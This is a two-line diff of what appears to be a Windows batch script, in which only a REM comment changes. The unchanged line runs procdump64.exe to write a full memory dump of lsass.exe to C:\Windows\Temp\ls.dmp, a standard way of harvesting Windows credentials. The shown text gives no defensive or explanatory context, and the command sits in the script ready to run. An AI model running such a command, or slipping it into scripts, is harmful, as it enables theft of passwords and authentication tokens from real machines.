@@ -1,2 +1,2 @@
-REM run 3459 v3
+REM config 1029 v3
 procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
